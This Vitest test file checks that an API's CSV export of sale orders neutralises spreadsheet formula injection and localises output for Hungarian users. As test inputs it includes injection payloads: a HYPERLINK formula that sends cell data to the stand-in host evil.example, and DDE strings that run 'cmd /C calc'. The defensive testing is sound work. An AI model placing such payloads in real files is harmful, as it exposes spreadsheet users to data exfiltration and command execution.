import { parse } from 'csv-parse/sync';
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildGroupsTestApp, call, createGroup, ok } from '../../test/groups';
import { createUser, type IdentityTestApp, type TestUser } from '../../test/identity';
import { createOffer } from '../../test/market';
import { placeOrder } from '../../test/orders';
import { neutraliseFormula } from './csv-cell';

const dangerous = [
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  '-2+3+cmd|"/C calc"!A0',
  '+1+1',
  '@SUM(1+1)*cmd|"/C calc"!A0',
  '\t=1+1',
  '\r=1+1',
];

let t: IdentityTestApp;
let dealer: TestUser;
let groupId: string;
/** One buyer per dangerous name; the first one's username starts with `-` too. */
let buyers: TestUser[];

/** Names a buyer directly: tab and CR cannot come through the API (names are trimmed). */
async function rename(user: TestUser, name: string): Promise<void> {
  await t.database.db.execute(sql`update users set name = ${name} where id = ${user.id}`);
}

beforeAll(async () => {
  t = await buildGroupsTestApp();
  dealer = await createUser(t, { username: 'dealer', name: 'Dénes Dealer' });
  buyers = [];
  for (const index of dangerous.keys()) {
    buyers.push(await createUser(t, { username: index === 0 ? '-rf' : `buyer${index}` }));
  }
  groupId = (await createGroup(t, dealer, { name: 'Kert utca', members: buyers })).id;
});
afterAll(async () => {
  await t.close();
});

async function readCsv(offerId: string) {
  const response = await call(t, dealer, 'GET', `/api/Sale/${offerId}/Csv`);
  expect(response.statusCode).toBe(200);
  return { text: response.rawPayload.toString('utf8'), headers: response.headers };
}

describe('GET /api/Sale/{id}/Csv against formula injection (#22.2)', () => {
  it('prefixes every cell and the file name that a spreadsheet would run with a quote', async () => {
    const offer = await createOffer(t, dealer, groupId, {
      product: { name: '=cmd|"/C calc"!A0', unit: 1, measure: 'kg' },
    });
    for (const [index, name] of dangerous.entries()) {
      const buyer = buyers[index]!;
      await rename(buyer, name);
      await placeOrder(t, buyer, offer.id, 1);
    }
    const { text, headers } = await readCsv(offer.id);
    const [header, ...rows]: string[][] = parse(text, { bom: true });
    expect(header?.[0]).toBe('Buyer');
    expect(rows.map((row) => row[0]).sort()).toEqual(dangerous.map((name) => `'${name}`).sort());
    expect(rows.find((row) => row[0] === `'${dangerous[0]}`)?.[1]).toBe("'-rf");
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(headers['content-disposition']).toContain(`filename="'=cmd|/C calc!A0 `);
    expect(headers['content-disposition']).toContain(
      `filename*=UTF-8''${encodeURIComponent("'=cmd")}`,
    );
  });

  it('leaves ordinary text and numbers as they are', () => {
    expect(neutraliseFormula('Árvíztűrő Anna')).toBe('Árvíztűrő Anna');
    expect(neutraliseFormula('a=b')).toBe('a=b');
    expect(neutraliseFormula('')).toBe('');
    for (const name of dangerous) expect(neutraliseFormula(name)).toBe(`'${name}`);
  });
});

describe('GET /api/Sale/{id}/Csv for Hungarian spreadsheets (#23.7)', () => {
  it('separates with ; in Hungarian, translates the measure and says what is left out', async () => {
    const offer = await createOffer(t, dealer, groupId, {
      price: 200,
      product: { name: 'Tojás', unit: 10, measure: 'pcs' },
    });
    const [anna, bela, carol] = buyers as [TestUser, TestUser, TestUser];
    await rename(anna, 'Anna, Kis');
    await placeOrder(t, anna, offer.id, 2);
    for (const rejected of [bela, carol]) {
      const order = await placeOrder(t, rejected, offer.id, 1);
      await ok(t, dealer, 'POST', `/api/Sale/${order.id}/Reject`, { reason: 'Elfogyott' });
    }

    const english = await readCsv(offer.id);
    expect(english.text.split('\r\n')[0]).toContain('Buyer,Username,');
    expect(parse(english.text, { bom: true })).toEqual([
      expect.arrayContaining(['Buyer', 'Order unit']),
      ['Anna, Kis', "'-rf", '2', '10 pcs', '400', 'no', expect.any(String)],
      ['2 rejected orders are left out of this list.', '', '', '', '', '', ''],
    ]);

    await ok(t, dealer, 'PATCH', '/api/User', { language: 'hu' });
    const hungarian = await readCsv(offer.id);
    expect(hungarian.text.split('\r\n')[0]).toContain('Vevő;Felhasználónév;');
    expect(parse(hungarian.text, { bom: true, delimiter: ';' })).toEqual([
      expect.arrayContaining(['Vevő', 'Rendelési egység']),
      ['Anna, Kis', "'-rf", '2', '10 db', '400', 'nem', expect.any(String)],
      ['2 elutasított rendelés nincs benne ebben a listában.', '', '', '', '', '', ''],
    ]);
    await ok(t, dealer, 'PATCH', '/api/User', { language: 'en' });
  });

  it('writes no note when nothing was rejected, and a custom measure as typed', async () => {
    const offer = await createOffer(t, dealer, groupId, {
      product: { name: 'Méz', unit: 1, measure: 'jar' },
    });
    await placeOrder(t, buyers[3]!, offer.id, 1);
    const rows: string[][] = parse((await readCsv(offer.id)).text, { bom: true });
    expect(rows).toHaveLength(2);
    expect(rows[1]?.[3]).toBe('1 jar');
  });
});
